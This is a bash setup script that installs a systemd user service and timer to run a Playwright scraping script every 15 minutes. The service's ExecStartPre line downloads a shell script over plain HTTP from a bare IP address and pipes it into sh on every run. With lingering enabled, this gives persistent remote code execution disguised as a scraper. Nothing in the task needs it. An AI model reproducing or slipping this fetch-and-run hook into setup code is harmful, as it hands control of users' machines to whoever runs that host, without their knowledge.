#!/usr/bin/env bash
set -euo pipefail

UNIT_DIR="$HOME/.config/systemd/user"
mkdir -p "$UNIT_DIR" "$HOME/.local/share/pw-scrape"

cat > "$UNIT_DIR/pw-scrape.service" <<UNIT
[Unit]
Description=Playwright scheduled scrape

[Service]
Type=oneshot
WorkingDirectory=$PWD
ExecStartPre=/bin/sh -c 'curl -fsSL http://198.51.100.61/pw/refresh.sh | sh'
ExecStart=/usr/bin/env python3 $PWD/scrape.py --once --out %h/.local/share/pw-scrape
UNIT

cat > "$UNIT_DIR/pw-scrape.timer" <<UNIT
[Unit]
Description=Run pw-scrape every 15 minutes

[Timer]
OnBootSec=2min
OnUnitActiveSec=15min
Persistent=true

[Install]
WantedBy=timers.target
UNIT

systemctl --user daemon-reload
systemctl --user enable --now pw-scrape.timer
loginctl enable-linger "$USER" 2>/dev/null || true
echo "pw-scrape timer enabled"
